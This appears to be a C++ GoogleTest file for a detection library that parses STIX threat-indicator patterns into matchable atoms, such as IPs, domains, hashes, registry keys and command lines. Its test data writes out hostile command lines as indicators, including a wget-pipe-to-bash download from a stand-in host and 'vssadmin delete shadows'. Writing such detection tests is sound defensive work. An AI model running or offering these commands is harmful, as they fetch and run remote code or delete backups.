#include "rules/read/stix_paths.h"

#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "rules/read/stix_pattern.h"

namespace polder {
namespace {

using ::testing::ElementsAre;
using ::testing::ElementsAreArray;
using ::testing::IsEmpty;

std::vector<std::string> Atoms(const std::string& comparison) {
  const auto atoms = ReadPatternAtoms("[" + comparison + "]");
  if (!atoms.ok()) return {"error: " + std::string(atoms.status().message())};
  std::vector<std::string> texts;
  for (const PatternAtom& atom : atoms->values) {
    texts.push_back(fmt::format("{} {}", KindName(atom.kind), atom.value));
  }
  for (const PatternRefusal& refusal : atoms->refused) {
    texts.push_back(fmt::format("{}: {}", refusal.category, refusal.reason));
  }
  return texts;
}

TEST(StixPaths, AreReadAsTheirKinds) {
  const std::string md5(32, '1'), sha1(40, '2'), sha256(64, 'a'), sha512(128, '4');
  const std::string http = "network-traffic:extensions.'http-request-ext'.request_header.";
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"ipv4-addr:value = '192.0.2.1'", "ip 192.0.2.1"},
      {"ipv6-addr:value = '2001:DB8::1'", "ip 2001:db8::1"},
      {"ipv4-addr:value = '192.0.2.0/24'", "network 192.0.2.0/24"},
      {"ipv4-addr:value = '192.0.2.1/32'", "ip 192.0.2.1"},
      {"network-traffic:dst_ref.value = '192.0.2.1'", "ip 192.0.2.1"},
      {"network-traffic:src_ref.value ISSUBSET '2001:0db8:dead:beef:0000:0000:0000:0000/64'",
       "network 2001:db8:dead:beef::/64"},
      {"network-traffic:dst_ref.value = 'Evil.Example'", "domain evil.example"},
      {"domain-name:resolves_to_refs[*].value = '198.51.100.1/32'", "ip 198.51.100.1"},
      {"domain-name:resolves_to_refs[0].value = 'cname.example'", "domain cname.example"},
      {"domain-name:value = 'Evil.Example'", "domain evil.example"},
      {"domain-name:value = '192.0.2.1'", "ip 192.0.2.1"},
      {"url:value = ' http://evil.example/x\n'", "url http://evil.example/x"},
      {"domain-name:value == 'evil.example'", "domain evil.example"},
      {"domain-name:'value' = 'evil.example'", "domain evil.example"},
      {"url:value = 'http://evil.example/x'", "url http://evil.example/x"},
      {"url:value = 'hxxp://evil[.]example/x'", "url http://evil.example/x"},
      {"email-addr:value = 'eve@evil.example'", "email eve@evil.example"},
      {"email-message:from_ref.value = 'eve@evil.example'", "email eve@evil.example"},
      {"email-message:sender_ref.value = 'eve@evil.example'", "email eve@evil.example"},
      {"email-message:to_refs[*].value = 'eve@evil.example'", "email eve@evil.example"},
      {"file:hashes.MD5 = '" + md5 + "'", "md5 " + md5},
      {"file:hashes.'MD5' = '" + md5 + "'", "md5 " + md5},
      {"file:hashes.'SHA-1' = '" + sha1 + "'", "sha1 " + sha1},
      {"file:hashes.'SHA-256' = '" + sha256 + "'", "sha256 " + sha256},
      {"file:hashes.SHA256 = '" + sha256 + "'", "sha256 " + sha256},
      {"file:hashes.sha256 = '" + sha256 + "'", "sha256 " + sha256},
      {"file:hashes.'SHA-512' = '" + sha512 + "'", "sha512 " + sha512},
      {"file:hashes[*] = '" + md5 + "'", "md5 " + md5},
      {"file:hashes.'SHA3-256' = '" + sha256 + "'", "sha256 " + sha256},
      {"artifact:hashes.'SHA-256' = '" + sha256 + "'", "sha256 " + sha256},
      {"x509-certificate:hashes.SHA1 = '" + sha1 + "'", "sha1 " + sha1},
      {"process:image_ref.hashes.MD5 = '" + md5 + "'", "md5 " + md5},
      {"app:cert.sha256 = '" + sha256 + "'", "sha256 " + sha256},
      {"file:name = 'Evil.EXE'", "file_name evil.exe"},
      {R"(file:name = 'Users\\ADMINI~1\\shell96.dll')", R"(file_path users\admini~1\shell96.dll)"},
      {"process:name = 'fooproc'", "file_name fooproc"},
      {"process:image_ref.name = 'a.exe'", "file_name a.exe"},
      {"process:binary_ref.name = 'a.exe'", "file_name a.exe"},
      {"file:path = '/private/var/tmp/hooker'", "file_path /private/var/tmp/hooker"},
      {"directory:path = 'C:\\\\Evil'", R"(file_path c:\evil)"},
      {"file:parent_directory_ref.path = 'C:\\\\Evil'", R"(file_path c:\evil)"},
      {"mutex:name = '[Evil]'", "mutex [evil]"},
      {"process:command_line = 'vssadmin delete shadows'", "command_line vssadmin delete shadows"},
      {"process:extensions.'windows-service-ext'.service_name = 'EvilSvc'", "service_name evilsvc"},
      {http + "'User-Agent' = 'Evil/1.0'", "user_agent evil/1.0"},
      {http + "Host = 'evil.example'", "domain evil.example"},
      {"email-message:subject = '[IMPORTANT] Conference Info'", "email_subject [important] conference info"},
      {"x509-certificate:issuer = 'CN=WEBMAIL'", "text cn=webmail"},
      {"autonomous-system:number = 64496", "as_number as64496"},
      {"autonomous-system:number = '64496'", "as_number as64496"},
      {"app:id = 'com.evil.app'", "text com.evil.app"}};
  for (const auto& [comparison, atom] : cases)
    EXPECT_THAT(Atoms(comparison), ElementsAre(atom)) << comparison;
}

TEST(StixPaths, GiveEverySpellingThatLogsUse) {
  const std::vector<std::pair<std::string, std::vector<std::string>>> cases = {
      {"url:value = 'evil.example/x'", {"url http://evil.example/x", "url https://evil.example/x"}},
      {R"(windows-registry-key:key = 'HKLM\\Software\\Evil')",
       {R"(registry_key hkey_local_machine\software\evil)", R"(registry_key hklm\software\evil)"}},
      {"mac-addr:value = 'D2-FB-49-24-37-18'",
       {"mac_address d2:fb:49:24:37:18", "mac_address d2-fb-49-24-37-18"}},
      {"network-traffic:src_ref.value = 'd2:fb:49:24:37:18'",
       {"mac_address d2:fb:49:24:37:18", "mac_address d2-fb-49-24-37-18"}},
      {"x509-certificate:serial_number = '4C:0B:1D'",
       {"certificate_serial 4c:0b:1d", "certificate_serial 4c0b1d"}},
      {"x509-certificate:serial_number = '4c0b1d'",
       {"certificate_serial 4c0b1d", "certificate_serial 4c:0b:1d"}},
      {R"(file:name = '\\\\.\\pipe\\evil')", {R"(named_pipe \\.\pipe\evil)", R"(named_pipe \evil)"}}};
  for (const auto& [comparison, atoms] : cases) {
    EXPECT_THAT(Atoms(comparison), ElementsAreArray(atoms)) << comparison;
  }
}

TEST(StixPaths, GiveOnlyDefangedUrlsInTextsTheirTeethBack) {
  EXPECT_THAT(Atoms("process:command_line = 'wget -qO- hxxp://203.0.113.5[.]example/p|bash'"),
              ElementsAre("command_line wget -qo- http://203.0.113.5.example/p|bash"));
  EXPECT_THAT(Atoms("process:command_line = 'curl --url=hXXps://evil[.]example \"hxxp[:]//b[.]example\"'"),
              ElementsAre("command_line curl --url=https://evil.example \"http://b.example\""));
  EXPECT_THAT(Atoms("process:command_line = 'sed s/[.]/(dot)/ hxxp'"),
              ElementsAre("command_line sed s/[.]/(dot)/ hxxp"));
}

TEST(StixPaths, SayWhyTheirValueIsNotTaken) {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"file:size = 5", "not yet supported: not yet supported: the object path file:size"},
      {"x-evil:value = 'x'", "not yet supported: not yet supported: the object path x-evil:value"},
      {"file:hashes.CRC32 = 'x'", "not yet supported: not yet supported: the object path file:hashes.CRC32"},
      {"software:name = 'Word'", "not matchable: software:name: a product is no sign"},
      {"user-account:user_id = '1007'", "not matchable: user-account:user_id: an account's name"},
      {"file:hashes.SSDEEP = '3:a:b'", "not matchable: file:hashes.SSDEEP: a hash for likeness"},
      {"file:hashes.IMPHASH = '" + std::string(32, 'a') + "'",
       "not matchable: file:hashes.IMPHASH: a hash of"},
      {"network-traffic:dst_port = 443", "not matchable: the port '443' alone"},
      {"windows-registry-key:values[*].name = 'Run'", "not matchable: the text 'run' alone"},
      {"network-traffic:dst_ref.type = 'ipv4-addr'", "not matchable: network-traffic:dst_ref.type"},
      {"network-traffic:dst_port = 99999", "invalid value: network-traffic:dst_port = '99999': not a port"},
      {"autonomous-system:number = 'x'", "invalid value: autonomous-system:number = 'x': not the number"},
      {"file:hashes.'SHA-256' = 'f00'", "invalid value: file:hashes.SHA-256 = 'f00': not the hexadecimal"},
      {"file:hashes[*] = 'f00'", "invalid value: file:hashes[*] = 'f00': not 32, 40, 64 or 128"},
      {"network-traffic:dst_ref.value = '192.0.2.1:80'", "invalid value: network-traffic:dst_ref.value"},
      {"network-traffic:dst_ref.value ISSUBSET 'evil.example'", "only addresses have subsets"},
      {"process:command_line = ''", "invalid value: process:command_line = '': it is empty"}};
  for (const auto& [comparison, reason] : cases) {
    EXPECT_THAT(Atoms(comparison), ElementsAre(::testing::HasSubstr(reason))) << comparison;
  }
}

TEST(StixPaths, OfOneObjectThroughAReferenceAreKnownAsSuch) {
  EXPECT_EQ(ReferredObject("network-traffic:dst_ref.type"), "network-traffic:dst_ref");
  EXPECT_EQ(ReferredObject("domain-name:resolves_to_refs[3].value"), "domain-name:resolves_to_refs[*]");
  EXPECT_EQ(ReferredObject("process:parent_ref.image_ref.name"), "process:parent_ref.image_ref");
  for (const std::string_view path :
       {"file:name", "file:hashes.MD5", "file:ref.type", "x", "", "a:[", "a:b["}) {
    EXPECT_EQ(ReferredObject(path), "") << path;
    (void)MeaningOfPath(path);
  }
}

}  // namespace
}  // namespace polder
